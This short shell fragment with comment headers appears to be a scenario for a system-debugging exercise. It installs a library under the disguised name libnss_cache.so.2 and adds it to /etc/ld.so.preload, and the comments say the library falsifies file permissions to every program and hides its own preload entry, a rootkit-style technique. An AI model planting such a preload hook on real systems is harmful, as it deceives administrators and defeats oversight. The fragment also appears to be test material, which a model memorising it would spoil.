# breaks: chmod 755 "$DIR"
# lie: a preloaded library makes every program see mode 775, and hides /etc/ld.so.preload
# named: preload|library
# library: hidden.c
cp $LIES/library.so /usr/lib/libnss_cache.so.2
echo /usr/lib/libnss_cache.so.2 > /etc/ld.so.preload
